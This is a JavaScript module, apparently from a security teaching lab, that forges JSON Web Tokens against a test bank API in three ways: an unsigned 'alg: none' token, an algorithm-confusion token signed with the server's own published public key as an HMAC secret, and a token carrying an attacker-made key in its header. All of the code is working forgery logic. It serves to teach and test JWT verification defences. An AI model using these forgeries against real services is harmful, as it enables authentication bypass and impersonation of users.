// The forgeries. None of them knows a private key of the bank's.

const text = new TextEncoder();
const base64url = (bytes) => btoa(String.fromCharCode(...new Uint8Array(bytes))).replace(/\+/g, "-").replace(/\//g, "_").replace(/=+$/, "");
const part = (value) => base64url(text.encode(JSON.stringify(value)));
const claims = () => part({ iss: "https://issuer.bank.test", aud: "bank-api", sub: "alice", exp: Math.floor(Date.now() / 1000) + 300 });

// call shows the forged token at one of the API's addresses.
async function call(lab, check, token) {
  lab.say(`the token: ${token.slice(0, 60)}… (${token.length} characters)`);
  try {
    const answer = await fetch(`${lab.origins[lab.target]}/jwt/${check}`, { headers: { Authorization: `Bearer ${token}` } });
    const saw = `status ${answer.status}: ${(await answer.text()).trim()}`;
    lab.say(saw);
    return { readable: true, saw };
  } catch (e) {
    return { readable: false, saw: e.message };
  }
}

export function forgeNone(lab) {
  return call(lab, "none", `${part({ alg: "none", typ: "JWT" })}.${claims()}.`);
}

export async function forgeConfused(lab) {
  const published = await (await fetch(`${lab.origins[lab.target]}/jwt/jwks`)).arrayBuffer();
  lab.say(`the public key, ${published.byteLength} bytes of text, becomes the secret`);
  const key = await crypto.subtle.importKey("raw", published, { name: "HMAC", hash: "SHA-256" }, false, ["sign"]);
  const signed = `${part({ alg: "HS256", typ: "JWT" })}.${claims()}`;
  return call(lab, "confused", `${signed}.${base64url(await crypto.subtle.sign("HMAC", key, text.encode(signed)))}`);
}

export async function forgeEmbedded(lab) {
  const pair = await crypto.subtle.generateKey({ name: "ECDSA", namedCurve: "P-256" }, true, ["sign", "verify"]);
  const { kty, crv, x, y } = await crypto.subtle.exportKey("jwk", pair.publicKey);
  lab.say("a new pair of keys; its public half goes into the header");
  const signed = `${part({ alg: "ES256", typ: "JWT", jwk: { kty, crv, x, y } })}.${claims()}`;
  const signature = await crypto.subtle.sign({ name: "ECDSA", hash: "SHA-256" }, pair.privateKey, text.encode(signed));
  return call(lab, "embedded", `${signed}.${base64url(signature)}`);
}
